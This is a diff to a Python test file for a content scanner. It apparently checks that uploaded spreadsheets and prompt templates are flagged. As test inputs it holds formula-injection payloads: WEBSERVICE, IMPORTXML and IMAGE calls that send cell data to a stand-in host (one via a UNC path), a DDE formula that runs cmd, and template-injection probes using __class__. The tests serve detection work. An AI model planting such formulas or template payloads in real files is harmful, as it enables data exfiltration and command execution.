@@ -8,7 +8,7 @@ import struct
 
 import numpy as np
 import pytest
-from building import rules_of, verdict
+from building import rules_of, scanned, verdict
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -135,6 +135,7 @@ def test_entities_in_drawings_are_blocked() -> None:
         ('"=WEBSERVICE(""https://x.test/?d=""&A1)"', "table.formula_sends"),
         ('"=IMPORTXML(CONCAT(""https://x.test/?v="", A1), ""//a"")"', "table.formula_sends"),
         ('"=IMAGE(""https://x.test/p.png"")"', "table.formula_sends"),
+        ('"=IMAGE(""\\\\x.test\\p.png"")"', "table.formula_sends"),
         ('"=HYPERLINK(""https://x.test/?d=""&A1&A2,""Error"")"', "table.formula_link"),
     ],
 )
@@ -161,6 +162,17 @@ def test_ordinary_cells_are_not_formulas_that_run(cell: str) -> None:
 def test_prompts_that_cannot_be_read_and_reach_inside_are_held(text: str) -> None:
     assert verdict(f"You help.\n{text}\n".encode(), "prompt.txt") is not Admission.ALLOW
     assert "template.unreadable" in rules_of(json.dumps({"nodes": [{"template": text}]}).encode(), "flow.json")
+
+
+@pytest.mark.parametrize("text", ['{{ {"a": x.__class__}["a"] }}', "{{ '" + "a" * 500 + "' ~ x.__class__ }}"])
+def test_braces_and_length_hide_nothing_in_a_placeholder(text: str) -> None:
+    assert verdict(f"You help.\n{text}\n".encode(), "prompt.txt") is Admission.BLOCK
+
+
+def test_a_formula_far_in_has_its_place() -> None:
+    raw = "é,b\n".encode() * 1_000_000 + b"=cmd|'/c calc'!A0\n"
+    (found,) = [one for one in scanned(raw, "t.csv") if one.rule == "table.formula_runs"]
+    assert raw[found.offset :].lstrip(b"\n").startswith(b"=cmd")
 
 
 @pytest.mark.parametrize(
